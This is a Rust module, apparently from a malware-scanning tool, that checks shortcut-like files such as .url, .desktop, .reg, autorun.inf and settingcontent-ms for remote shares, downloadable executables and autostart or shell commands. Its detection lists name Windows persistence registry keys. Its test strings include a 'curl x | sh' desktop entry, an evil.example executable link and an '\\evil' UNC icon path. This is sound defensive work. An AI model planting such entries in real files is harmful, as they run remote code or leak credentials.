//! Small text files that a double click follows: Windows internet shortcuts, desktop entries, web locations, autorun.inf,
//! registry files, remote desktop, search connectors. Their kind is a finding already; here is what they point at.

use super::bytes::{cut, lossy};
use super::commands;
use super::links;
use super::markup::{Token, local_name, tokens, unescape};
use super::report::Report;
use crate::kind::Kind;

const FILE_BYTES_MAX: usize = 1 << 20;
const RUNS: &[&str] = &[
    ".exe", ".scr", ".hta", ".js", ".vbs", ".lnk", ".bat", ".cmd", ".msi", ".jar", ".ps1", ".wsf", ".cpl", ".url",
    ".zip", ".iso",
];

pub fn inspect(kind: Kind, data: &[u8], report: &mut dyn Report) {
    let text = lossy(data.get(..FILE_BYTES_MAX.min(data.len())).unwrap_or_default());
    match kind {
        Kind::UrlShortcut | Kind::Scf => {
            for key in ["url", "iconfile", "workingdirectory", "command"] {
                if let Some(value) = ini_value(&text, key) {
                    target(value, report);
                }
            }
        }
        Kind::DesktopEntry => {
            for value in ["exec", "tryexec", "url"].into_iter().filter_map(|key| ini_value(&text, key)) {
                command(value, report);
                target(value, report);
            }
        }
        Kind::Inf => {
            for value in
                ["open", "shellexecute", "shell\\open\\command"].into_iter().filter_map(|key| ini_value(&text, key))
            {
                report.fact("files/shortcut-command", cut(value, 120));
            }
        }
        Kind::Reg => registry(&text, report),
        Kind::Rdp => {
            if let Some(host) = text.lines().find_map(|line| line.trim().strip_prefix("full address:s:")) {
                report.fact("files/shortcut-remote", cut(host, 120));
            }
        }
        _ => xml_targets(&text, report),
    }
}

/// `key=value`, in any letter case.
fn ini_value<'a>(text: &'a str, key: &str) -> Option<&'a str> {
    text.lines().find_map(|line| {
        let (name, value) = line.split_once('=')?;
        name.trim().eq_ignore_ascii_case(key).then_some(value.trim())
    })
}

fn target(value: &str, report: &mut dyn Report) {
    let lower = value.to_ascii_lowercase().replace('\\', "/");
    let file_share = lower
        .strip_prefix("file:")
        .map(|rest| rest.trim_start_matches('/'))
        .is_some_and(|rest| !rest.is_empty() && !rest.contains(":/") && !rest.starts_with("localhost/"));
    let share = lower.starts_with("//")
        || file_share
        || lower.starts_with("smb:")
        || lower.contains("davwwwroot")
        || lower.contains("@ssl");
    let path = lower.split(['?', '#']).next().unwrap_or_default();
    if share {
        report.fact("files/shortcut-remote", cut(value, 140));
    } else if RUNS.iter().any(|extension| path.ends_with(extension))
        && (lower.starts_with("http") || lower.starts_with("file:") || lower.starts_with("ftp"))
    {
        report.fact("files/shortcut-program", cut(value, 140));
    }
    links::say(value, report);
}

fn command(value: &str, report: &mut dyn Report) {
    if let Some(tool) = commands::tool_in(value) {
        report.fact("files/shortcut-command", &format!("{tool}: {}", cut(value, 120)));
    }
}

/// Keys that start programs.
fn registry(text: &str, report: &mut dyn Report) {
    const KEYS: &[&str] = &[
        "\\currentversion\\run",
        "\\image file execution options",
        "\\winlogon",
        "\\shell\\open\\command",
        "\\services\\",
        "\\policies\\explorer",
        "windows defender",
    ];
    let mut key = "";
    for line in text.lines().take(50_000) {
        let line = line.trim();
        if line.starts_with('[') {
            let lower = line.to_ascii_lowercase();
            key = KEYS.iter().find(|known| lower.contains(**known)).copied().unwrap_or_default();
        } else if !key.is_empty() && line.contains('=') {
            return report.fact("files/shortcut-command", &format!("{key}: {}", cut(line, 100)));
        }
    }
}

/// `settingcontent-ms`, `library-ms`, `search-ms`, `webloc`, `jnlp`, ClickOnce: what stands in tags and attributes.
fn xml_targets(text: &str, report: &mut dyn Report) {
    let mut current = "";
    for token in tokens(text).take(20_000) {
        match token {
            Token::Tag { name, attributes: raw, closes: false } => {
                current = local_name(name);
                for (key, value) in super::markup::attributes(raw).take(64) {
                    if matches!(key.to_ascii_lowercase().as_str(), "href" | "codebase" | "url" | "uri") {
                        target(&unescape(value), report);
                    }
                }
            }
            Token::Text(body) => {
                let body = unescape(body.trim());
                match current.to_ascii_lowercase().as_str() {
                    "deeplink" if !body.is_empty() => report.fact("files/shortcut-command", cut(&body, 140)),
                    "url" | "string" | "href" | "icon" | "icon32" => target(&body, report),
                    _ => {}
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::report::tests::Seen;

    #[test]
    fn what_they_point_at() {
        let check = |kind: Kind, text: &str, expect: &[&str]| {
            let mut seen = Seen::default();
            inspect(kind, text.as_bytes(), &mut seen);
            assert_eq!(seen.rules(), expect, "{text}");
        };
        check(Kind::UrlShortcut, "[InternetShortcut]\r\nURL=https://example.com/\r\n", &[]);
        check(
            Kind::UrlShortcut,
            "[InternetShortcut]\r\nURL=file://198.51.100.1/share/a.exe\r\n",
            &["files/shortcut-remote"],
        );
        check(Kind::UrlShortcut, "[InternetShortcut]\nURL=https://evil.example/a.exe?x\n", &["files/shortcut-program"]);
        check(
            Kind::UrlShortcut,
            "[InternetShortcut]\nURL=https://a.example\nIconFile=\\\\evil\\x.ico\n",
            &["files/shortcut-remote"],
        );
        check(Kind::DesktopEntry, "[Desktop Entry]\nExec=bash -c 'curl x | sh'\n", &["files/shortcut-command"]);
        check(
            Kind::Reg,
            "REGEDIT4\n[HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"a\"=\"b.exe\"\n",
            &["files/shortcut-command"],
        );
        check(Kind::Reg, "REGEDIT4\n[HKCU\\Software\\X]\n\"a\"=\"b\"\n", &[]);
        check(
            Kind::SettingContent,
            "<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>",
            &["files/shortcut-command"],
        );
        check(Kind::LibraryMs, "<l><url>\\\\198.51.100.1\\x</url></l>", &["files/shortcut-remote"]);
    }
}
